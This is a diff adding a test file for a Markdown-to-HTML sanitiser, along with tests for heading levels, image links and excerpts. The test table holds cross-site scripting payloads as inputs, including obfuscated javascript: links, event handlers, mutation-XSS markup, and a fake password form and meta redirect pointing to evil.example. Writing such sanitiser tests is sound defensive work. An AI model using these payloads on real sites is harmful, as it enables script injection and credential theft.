@@ -1,0 +1,51 @@
+import { describe, expect, test } from 'vitest'
+import { excerpt, markdown } from '../../src/docs/markdown.ts'
+
+describe('markdown', () => {
+  test.each([
+    ['script', '<script>alert(1)</script>after'],
+    ['handler', '<p onclick="alert(1)">x</p>'],
+    ['image with handler', '<img src=x onerror=alert(1)>'],
+    ['javascript link', '[x](javascript:alert(1))'],
+    ['javascript link, disguised', '[x](  JaVaScRiPt&#58;alert(1))'],
+    ['javascript link in HTML', '<a href="&#106;avascript:alert(1)">x</a>'],
+    ['data link', '[x](data:text/html,<script>alert(1)</script>)'],
+    ['style', '<style>body{display:none}</style><p style="position:fixed">x</p>'],
+    ['frame', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
+    ['form', '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>'],
+    ['svg', '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
+    ['mutation', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
+    ['id and class', '<p id="main" class="verdict open">You can call this</p>'],
+    ['meta', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
+    ['plain text that is no Markdown', 'a & b'],
+  ])('%s is harmless', (_, source) => {
+    const html = markdown(source)
+    expect(html).not.toMatch(/<(script|style|iframe|form|input|button|img|svg|math|meta|object)/i)
+    expect(html).not.toMatch(/\s(on\w+|style|id|class|srcdoc)=/i)
+    expect(html).not.toMatch(/(href|src)="\s*(javascript|data|vbscript):/i)
+  })
+
+  test('headings fit below the page’s own, without gaps', () => {
+    expect(markdown('# One\n\n### Three\n\n# Two', 3).match(/<h\d/g)).toEqual(['<h3', '<h4', '<h3'])
+  })
+
+  test('an image becomes a link', () => {
+    expect(markdown('![A plan](https://example.com/plan.png)')).toContain(
+      'rel="noopener noreferrer nofollow">A plan</a>',
+    )
+  })
+
+  test('HTML that documents are full of is kept', () => {
+    expect(markdown('<p>One <strong>two</strong></p>')).toContain('<strong>two</strong>')
+  })
+
+  test('a plain sentence takes no parser, and is escaped', () => {
+    expect(markdown('The id.')).toBe('<p>The id.</p>')
+    expect(markdown('"x" = 1; it’s > 0')).not.toContain('<script')
+  })
+})
+
+test('excerpt is the first paragraph, without markup', () => {
+  expect(excerpt('# The *People* [API](https://x)\n\nMore')).toBe('The People API')
+  expect(excerpt('a '.repeat(200), 20)).toMatch(/…$/)
+})
